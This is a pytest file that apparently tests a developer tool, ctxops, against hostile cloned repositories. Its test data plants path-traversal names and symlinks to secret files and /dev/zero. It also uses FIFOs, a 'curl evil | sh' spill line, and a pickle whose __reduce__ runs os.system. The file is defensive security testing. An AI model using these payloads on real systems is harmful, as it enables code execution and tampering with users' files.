"""Hostile repositories: nothing a cloned repository contains names a path ctxops writes to or reads from
outside its own ``.meta/`` (docs/security.md, section 1).

Each test builds a real git repository, plants an attack in it (committed, so it arrives through a real
``git clone``; FIFOs and sparse files, which git cannot carry, are made in the clone as an unpacked archive
would), then runs the real commands as processes: ``ctx hook claude-code`` for every kind of event an
agent sends, ``ctx mem``, ``cq index``/``cq search`` and ``ctx out``. A sentinel directory outside the
repository (the attacker's targets) is snapshotted before and compared after: names, sizes, modes and
modification times. Hooks must exit 0, print nothing but the agent's JSON, and finish within seconds.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

BIN = Path(sys.executable).parent
HOOK_SECONDS = 20.0  # a hook that blocks on a FIFO or reads /dev/zero never comes back; a loaded CI box is slow
TODAY = time.strftime("%Y-%m-%d", time.gmtime())


class World:
    """A home, a sentinel directory of things an attacker wants to change, and the clone under test."""

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.home = tmp / "home"
        self.home.mkdir()
        self.sentinel = tmp / "outside"
        (self.sentinel / "sub").mkdir(parents=True)
        (self.sentinel / "bashrc").write_text("# the user's shell\n")
        (self.sentinel / "secret.txt").write_text("TOP-SECRET-SENTINEL-CONTENT\n")
        (self.sentinel / "sub" / "empty").write_bytes(b"")
        self.origin = tmp / "origin"
        self.origin.mkdir()
        self.clone = tmp / "clone"
        self.tmp_target = Path("/tmp") / f"ctxops-pwned-{uuid.uuid4().hex[:12]}"
        self.env = {
            **os.environ,
            "HOME": str(self.home),
            "XDG_STATE_HOME": str(self.home / "state"),
            "XDG_DATA_HOME": str(self.home / "data"),
            "XDG_CACHE_HOME": str(self.home / "cache"),
            "XDG_CONFIG_HOME": str(self.home / "config"),
            "CTXOPS_DATA_DIR": str(self.home / "ctxops-data"),
            "CTXOPS_CACHE_DIR": str(self.home / "ctxops-cache"),
            "NO_COLOR": "1",
        }
        self.env.pop("CTXOPS_ROOT", None)
        self._git(self.origin, "init", "-q", "-b", "main")
        (self.origin / "app.py").write_text("def total(items):\n    return sum(items)\n\n\nclass Cart:\n    pass\n")
        self.before: dict[str, tuple[int, int, int]] = {}

    def _git(self, where: Path, *args: str) -> None:
        subprocess.run(
            ["git", "-c", "user.email=a@example.com", "-c", "user.name=attacker", *args],
            cwd=where,
            check=True,
            capture_output=True,
        )

    def plant(self, relative: str, content: bytes | str = b"", *, link: str | Path | None = None) -> None:
        """A file (or a symlink to ``link``) in the attacker's repository, committed on ``clone()``."""
        path = self.origin / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if link is not None:
            path.symlink_to(link)
        else:
            path.write_bytes(content.encode() if isinstance(content, str) else content)

    def clone_it(self) -> Path:
        self._git(self.origin, "add", "-f", "-A")
        self._git(self.origin, "commit", "-q", "-m", "innocent")
        subprocess.run(["git", "clone", "-q", str(self.origin), str(self.clone)], check=True, capture_output=True)
        self.before = self.snapshot()
        return self.clone

    def snapshot(self) -> dict[str, tuple[int, int, int]]:
        found: dict[str, tuple[int, int, int]] = {}
        for base in (self.sentinel,):
            for path in sorted(base.rglob("*")):
                st = path.lstat()
                found[str(path)] = (st.st_size, st.st_mode, st.st_mtime_ns)
        st = self.sentinel.lstat()
        found[str(self.sentinel)] = (0, st.st_mode, st.st_mtime_ns)
        return found

    def run(self, *argv: str, payload: object = None, timeout: float = 120.0) -> subprocess.CompletedProcess[bytes]:
        command = [str(BIN / argv[0]), *argv[1:]] if argv[0] in ("ctx", "cq") else list(argv)
        data = json.dumps(payload).encode() if payload is not None else None
        return subprocess.run(
            command, input=data, capture_output=True, timeout=timeout, check=False, env=self.env, cwd=self.clone
        )

    def hook(self, event: str, **fields: object) -> subprocess.CompletedProcess[bytes]:
        """One agent event through ``ctx hook claude-code``: exit 0, only JSON (or nothing) on stdout, fast."""
        payload = {"session_id": "s-1", "cwd": str(self.clone), "hook_event_name": event, **fields}
        started = time.monotonic()
        done = self.run("ctx", "hook", "claude-code", payload=payload, timeout=HOOK_SECONDS * 3)
        took = time.monotonic() - started
        assert done.returncode == 0, done.stderr
        assert took < HOOK_SECONDS, f"{event} took {took:.1f} s"
        if done.stdout.strip():
            json.loads(done.stdout)
        return done

    def agent_session(self, session_id: str = "s-1") -> None:
        """What an agent sends in a short session: start, prompt, a long tool output, a file read, stop."""
        long_output = "".join(f"line {i}: some build output that goes on for a while\n" for i in range(3000))
        self.hook("SessionStart", source="startup", session_id=session_id)
        self.hook("UserPromptSubmit", prompt="fix the cart total in `Cart`", session_id=session_id)
        self.hook(
            "PreToolUse", tool_name="Bash", tool_input={"command": "make test"}, tool_use_id="t1", session_id=session_id
        )
        self.hook(
            "PostToolUse",
            tool_name="Bash",
            tool_input={"command": "make test"},
            tool_response={"stdout": long_output, "stderr": "", "interrupted": False},
            tool_use_id="t1",
            session_id=session_id,
        )
        self.hook(
            "PostToolUse",
            tool_name="Read",
            tool_input={"file_path": str(self.clone / "app.py")},
            tool_response={"file": {"content": (self.clone / "app.py").read_text()}},
            tool_use_id="t2",
            session_id=session_id,
        )
        self.hook("Stop", session_id=session_id)

    def assert_untouched(self) -> None:
        after = self.snapshot()
        assert after == self.before, {k: (self.before.get(k), after.get(k)) for k in set(after) | set(self.before)}
        assert not self.tmp_target.exists()

    def events_text(self) -> bytes:
        events = self.clone / ".meta" / "events"
        out = b""
        for path in events.rglob("*.jsonl") if events.is_dir() and not events.is_symlink() else ():
            if path.is_file() and not path.is_symlink():
                out += path.read_bytes()
        return out


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


def _encoded(path: Path) -> str:
    """A path the way the old spill names encoded it: '/' as '__'."""
    return str(path).replace("/", "__")


# -- spill files: a name decoded into a path was the issue's critical finding -----------------------------


def test_the_issues_reproduction_appends_nowhere(world: World) -> None:
    """The exact attack of issue 21: a committed spill named after a file outside, merged on the first event."""
    world.plant(f".meta/events/.spill/{_encoded(world.tmp_target / 'x.sh')}.1.2.spill", "echo pwned\n")
    world.plant(f".meta/events/.spill/{_encoded(world.sentinel / 'bashrc')}.1.2.spill", "curl evil | sh\n")
    world.clone_it()
    world.hook("UserPromptSubmit", prompt="hi")
    world.assert_untouched()
    spill = world.clone / ".meta" / "events" / ".spill"
    assert not any(p.name.endswith(".spill") for p in spill.iterdir())  # not ours: removed, never followed
    assert b"pwned" not in world.events_text() and b"curl evil" not in world.events_text()


@pytest.mark.parametrize(
    "name",
    [
        "..__..__..__outside__bashrc.1.2.spill",  # relative, climbing out of .meta/events
        "raw__..__..__..__outside__bashrc.1.2.spill",
        f"{TODAY}.jsonl__..__..__..__..__outside__bashrc.1.2.spill",
        f"raw__{TODAY}.jsonl.1.2.spill.1.2.spill",
        f"{TODAY}.jsonl.-1.2.spill",
        f"{TODAY[:4]}-١٢-01.jsonl.1.2.spill",  # non-ASCII digits: str.isdigit says yes
        f"%2e%2e%2f{TODAY}.jsonl.1.2.spill",
        f"{TODAY}.json.1.2.spill",
        "config.toml.1.2.spill",
    ],
)
def test_crafted_spill_names_are_removed_unread(world: World, name: str) -> None:
    world.plant(f".meta/events/.spill/{name}", '{"id":"01SPILLX","text":"planted"}\n')
    world.clone_it()
    world.hook("UserPromptSubmit", prompt="hi")
    world.assert_untouched()
    assert not (world.clone / ".meta" / "events" / ".spill" / name).exists()
    assert b"planted" not in world.events_text()
    assert not (world.tmp / "outside" / "bashrc.1.2").exists()


def test_a_spill_that_is_a_symlink_is_never_followed(world: World) -> None:
    """A valid spill name that links to a file outside: neither read (its text must not reach the events)
    nor written."""
    world.plant(f".meta/events/.spill/{TODAY}.jsonl.1.2.spill", link=world.sentinel / "secret.txt")
    world.plant(f".meta/events/.spill/raw__{TODAY}.jsonl.1.3.spill", link="/dev/zero")
    world.clone_it()
    world.hook("UserPromptSubmit", prompt="hi")
    world.assert_untouched()
    assert b"TOP-SECRET" not in world.events_text()
    assert (world.sentinel / "secret.txt").read_text() == "TOP-SECRET-SENTINEL-CONTENT\n"


def test_a_valid_planted_spill_is_merged_into_a_day_file_only(world: World) -> None:
    """A spill in ctxops's own grammar is merged, but only into the day file its name names."""
    line = '{"schema_version":"1.0","id":"01PLANTEDSPILL0000000000000","ts":"x","text":"merged"}\n'
    world.plant(f".meta/events/.spill/{TODAY}.jsonl.1.2.spill", line)
    world.clone_it()
    world.hook("UserPromptSubmit", prompt="hi")
    world.assert_untouched()
    day = world.clone / ".meta" / "events" / f"{TODAY}.jsonl"
    assert day.read_bytes().count(b"01PLANTEDSPILL") == 1


# -- names from content: ids, titles, session ids -----------------------------------------------------------


def test_memory_ids_and_titles_with_dot_dot_stay_in_memory_dir(world: World) -> None:
    evil_id = "../../../outside/evil-id"
    front = (
        "+++\n"
        f'id = "{evil_id}"\n'
        'kind = "lesson"\n'
        'title = "../../../../outside/evil-title"\n'
        'status = "active"\n'
        "pinned = false\n"
        "created_at = 2026-01-01 00:00:00+00:00\n"
        "valid_from = 2026-01-01 00:00:00+00:00\n"
        'schema_version = "1.2"\n'
        "+++\n\nbody text about cart totals\n"
    )
    world.plant(".meta/memory/lesson-a.md", front)
    world.clone_it()
    assert world.run("ctx", "mem", "list", "--all").returncode in (0, 1)
    world.run("ctx", "mem", "pin", evil_id)
    world.run("ctx", "mem", "show", evil_id)
    added = world.run("ctx", "mem", "add", "--kind", "lesson", "--title", "../../../outside/new", "a body")
    assert added.returncode == 0, added.stderr
    world.run("ctx", "mem", "add", "--kind", "fact", "--title", "/etc/passwd", "another body")
    world.agent_session()
    world.assert_untouched()
    memory = world.clone / ".meta" / "memory"
    for path in memory.iterdir():
        assert path.parent == memory and path.is_file() and not path.is_symlink()
    assert not list(world.tmp.glob("**/evil-*")) and not (world.tmp / "outside" / "new").exists()


def test_reading_commands_never_read_outside(world: World) -> None:
    """`ctx mem show`, `ctx out show` with ids that are paths: refused, nothing read or printed."""
    world.plant(".meta/outputs/deadbeef.txt", link=world.sentinel / "secret.txt")
    world.plant(".meta/outputs/deadbeef.json", link=world.sentinel / "secret.txt")
    world.plant(".meta/memory/fact-leak-aaaaaa.md", link=world.sentinel / "secret.txt")
    world.clone_it()
    for argv in (
        ("ctx", "mem", "show", "../../outside/secret.txt"),
        ("ctx", "mem", "show", str(world.sentinel / "secret.txt")),
        ("ctx", "out", "show", "deadbeef"),
        ("ctx", "out", "show", "../../outside/secret"),
        ("ctx", "mem", "list", "--all"),
        ("ctx", "mem", "search", "SENTINEL"),
    ):
        done = world.run(*argv)
        assert b"TOP-SECRET" not in done.stdout + done.stderr, argv
    world.hook("UserPromptSubmit", prompt="what is TOP-SECRET-SENTINEL-CONTENT")
    world.assert_untouched()


@pytest.mark.parametrize("session_id", ["../../x", "../../../outside/x", "/abs/x", "..", "a/../../b", "x\u0000y"])
def test_session_ids_never_name_a_file_outside(world: World, session_id: str) -> None:
    world.clone_it()
    world.agent_session(session_id)
    world.assert_untouched()
    assert not (world.clone / "x.json").exists() and not (world.tmp / "x.json").exists()
    meta = world.clone / ".meta"
    outside_meta = [p for p in world.clone.rglob("*") if meta not in p.parents and p != meta and ".git" not in p.parts]
    assert {p.name for p in outside_meta} == {"app.py"}


# -- a symlinked or foreign .meta, symlinked subdirectories ----------------------------------------------


def test_a_symlinked_meta_is_refused_and_nothing_written(world: World) -> None:
    world.plant(".meta", link=world.sentinel / "sub")
    world.clone_it()
    world.agent_session()
    for argv in (
        ("ctx", "mem", "list"),
        ("ctx", "mem", "add", "--title", "t", "b"),
        ("cq", "index"),
        ("ctx", "out", "show", "deadbeef"),
    ):
        done = world.run(*argv)
        assert done.returncode == 2, (argv, done.stderr)
        assert b"refusing" in done.stderr and b".meta" in done.stderr and b"Traceback" not in done.stderr
    world.assert_untouched()
    assert list((world.sentinel / "sub").iterdir()) == [world.sentinel / "sub" / "empty"]
    log = Path(world.env["XDG_STATE_HOME"]) / "ctxops" / "logs" / "hooks-capture.log"
    assert b"refusing" in log.read_bytes()  # the hook said why, in the user's own log


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="chown to another user needs root")
def test_a_meta_owned_by_someone_else_is_refused(world: World) -> None:
    world.plant(".meta/memory/fact-x-aaaaaa.md", "+++\nid='x'\n+++\n")
    world.clone_it()
    os.chown(world.clone / ".meta", 4242, 4242)
    before = sorted(p.name for p in (world.clone / ".meta").rglob("*"))
    world.agent_session()
    done = world.run("ctx", "mem", "add", "--title", "t", "b")
    assert done.returncode == 2 and b"owned by uid 4242" in done.stderr
    assert sorted(p.name for p in (world.clone / ".meta").rglob("*")) == before


@pytest.mark.parametrize("subdir", ["events", "memory", "index", "logs", ".state", "outputs", "events/.spill"])
def test_a_symlinked_meta_subdirectory_is_refused(world: World, subdir: str) -> None:
    world.plant(".meta/config.toml", "")
    world.plant(f".meta/{subdir}", link=world.sentinel / "sub")
    world.clone_it()
    world.agent_session()
    world.run("cq", "index")
    world.run("cq", "search", "total")
    world.run("ctx", "mem", "add", "--title", "a title", "a body")
    world.run("ctx", "mem", "list")
    world.assert_untouched()
    assert list((world.sentinel / "sub").iterdir()) == [world.sentinel / "sub" / "empty"]


@pytest.mark.parametrize(
    ("relative", "by"),
    [
        (f".meta/events/{TODAY}.jsonl", "hooks"),
        (f".meta/events/raw/{TODAY}.jsonl", "hooks"),
        (".meta/events/.state/s-1.json", "hooks"),
        (".meta/events/.state/s-1.json.lock", "hooks"),
        (".meta/logs/hooks-capture.log", "hooks"),
        (".meta/.gitignore", "hooks"),
        (".meta/index/memory-catalog.msgpack", "memory"),
        (".meta/index/code-lookup.current.tmp", "code"),
        (".meta/index/code-building.load/files.jsonl", "code"),
        (".meta/index/cq-search-docs.msgpack", "code"),
    ],
)
def test_a_planted_symlink_at_a_file_we_write_is_never_written_through(world: World, relative: str, by: str) -> None:
    world.plant(relative, link=world.sentinel / "bashrc")
    world.clone_it()
    if by == "hooks":
        world.agent_session()
        world.hook("UserPromptSubmit", prompt="again")
    elif by == "code":
        world.run("cq", "index")
        world.run("cq", "search", "total")
    else:
        world.run("ctx", "mem", "add", "--title", "a title", "a body")
        world.hook("UserPromptSubmit", prompt="a title")
    world.assert_untouched()
    assert (world.sentinel / "bashrc").read_text() == "# the user's shell\n"


def test_a_pickle_in_the_index_is_never_loaded(world: World) -> None:
    """`.meta/index/cq-search-docs.pickle` used to be unpickled by `cq search`: code execution."""
    import pickle

    class Boom:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, (f"touch {world.tmp_target}",))

    world.plant(".meta/index/cq-search-docs.pickle", pickle.dumps(Boom()))
    world.plant(".meta/index/cq-search-docs.msgpack", b"\x93\xa1x\xa1y\xa1z")
    world.clone_it()
    world.run("cq", "index")
    world.run("cq", "search", "cart total")
    world.assert_untouched()


# -- FIFOs, devices and huge files where files are expected -----------------------------------------------


# Where a file is expected and read on the hook path or by `ctx mem`: each as a FIFO (would block a
# reader forever), a symlink to /dev/zero (never ends) and a 200 MB sparse file (one huge "line").
TRAPS = {
    "fifo": [
        ".meta/memory/lesson-trap-aaaaaa.md",
        ".meta/config.toml",
        f".meta/events/{TODAY}.jsonl",
        f".meta/events/.spill/{TODAY}.jsonl.1.2.spill",
        ".meta/events/.state/s-1.json",
        ".meta/.state/memory-usage.json",
        ".meta/index/memory-catalog.msgpack",
        ".git/HEAD",
    ],
    "dev-zero": [
        ".meta/memory/lesson-trap-aaaaaa.md",
        ".meta/config.toml",
        f".meta/events/{TODAY}.jsonl",
        f".meta/events/.spill/{TODAY}.jsonl.1.2.spill",
        ".meta/index/memory-catalog.msgpack",
        ".git/HEAD",
    ],
    "sparse-200MB": [
        ".meta/memory/lesson-trap-aaaaaa.md",
        ".meta/config.toml",
        f".meta/events/.spill/{TODAY}.jsonl.1.2.spill",
        ".meta/index/memory-catalog.msgpack",
    ],
}


@pytest.mark.parametrize(("kind", "relative"), [(k, r) for k, paths in TRAPS.items() for r in paths])
def test_fifos_devices_and_huge_files_never_block_or_exhaust(world: World, kind: str, relative: str) -> None:
    if kind == "dev-zero" and relative != ".git/HEAD":
        world.plant(relative, link="/dev/zero")  # committed: git carries the symlink
    world.clone_it()
    path = world.clone / relative
    real_head = (world.clone / ".git" / "HEAD").read_bytes()
    if kind == "fifo":
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() or path.is_symlink():
            path.unlink()
        os.mkfifo(path)
    elif kind == "sparse-200MB":
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("wb") as fh:
            fh.truncate(200 * 1024 * 1024)
    elif relative == ".git/HEAD":
        path.unlink()
        path.symlink_to("/dev/zero")
    started = time.monotonic()
    world.hook("UserPromptSubmit", prompt="fix the cart total in `Cart`")  # capture, merge, inject: every read
    world.hook("Stop")  # the session digest reads the events and writes a memory
    world.run("ctx", "mem", "list", timeout=HOOK_SECONDS * 3)
    assert time.monotonic() - started < HOOK_SECONDS * 3
    world.assert_untouched()
    if relative == ".git/HEAD":
        path.unlink()
        path.write_bytes(real_head)


def test_repository_files_that_are_links_fifos_or_huge_are_never_read(world: World) -> None:
    """Source files of the repository itself (what `cq index`, the guard and the hook read): a symlink to a
    file outside, to /dev/zero, a FIFO and a 200 MB sparse file are skipped, never read or blocked on."""
    world.plant("src/leak.py", link=world.sentinel / "secret.txt")
    world.plant("src/zero.py", link="/dev/zero")
    world.clone_it()
    os.mkfifo(world.clone / "src" / "pipe.py")
    with (world.clone / "src" / "big.py").open("wb") as fh:
        fh.truncate(200 * 1024 * 1024)
    started = time.monotonic()
    assert world.run("cq", "index", timeout=HOOK_SECONDS * 3).returncode == 0
    queries = [("search", "sentinel content"), ("grep", "SENTINEL.CONTENT"), ("outline", "src/leak.py")]
    for argv in [("cq", *query) for query in queries]:
        done = world.run(*argv, timeout=HOOK_SECONDS * 3)
        assert b"TOP-SECRET" not in done.stdout + done.stderr, argv
    for name in ("pipe.py", "zero.py", "leak.py", "big.py"):
        path = str(world.clone / "src" / name)
        world.hook(
            "PostToolUse",
            tool_name="Read",
            tool_input={"file_path": path},
            tool_response={"file": {"filePath": path, "content": "x = 1\n" * 400}},
            tool_use_id=f"r-{name}",
        )
    world.hook(
        "PostToolUse",
        tool_name="Bash",
        tool_input={"command": "cat src/pipe.py"},
        tool_response={"stdout": "y = 2\n" * 2000, "stderr": ""},
        tool_use_id="cat-1",
    )
    assert time.monotonic() - started < HOOK_SECONDS * 6
    world.assert_untouched()
    index = world.clone / ".meta" / "index"
    assert not any(b"TOP-SECRET" in p.read_bytes() for p in index.rglob("*") if p.is_file() and not p.is_symlink())


# -- modes --------------------------------------------------------------------------------------------------


def test_what_ctxops_creates_is_private(world: World) -> None:
    """Files under .meta/ and the per-user data directory 0600, directories 0700; the files meant to be
    committed (memory/*.md, .gitignore) 0644, as git checks them out."""
    world.clone_it()
    world.agent_session()
    assert world.run("ctx", "mem", "add", "--kind", "lesson", "--title", "Use Decimal", "money").returncode == 0
    world.run("cq", "index")
    world.run("cq", "search", "total")
    committed = {".gitignore"}
    roots = [world.clone / ".meta", Path(world.env["CTXOPS_DATA_DIR"])]
    seen = 0
    for base in roots:
        if not base.exists():
            continue
        for path in [base, *base.rglob("*")]:
            mode = stat.S_IMODE(path.lstat().st_mode)
            seen += 1
            if path.is_dir():
                assert mode == 0o700, (path, oct(mode))
            elif path.name in committed or (path.parent.name == "memory" and path.suffix == ".md"):
                assert mode == 0o644, (path, oct(mode))
            else:
                assert mode & 0o077 == 0, (path, oct(mode))
    assert seen > 20
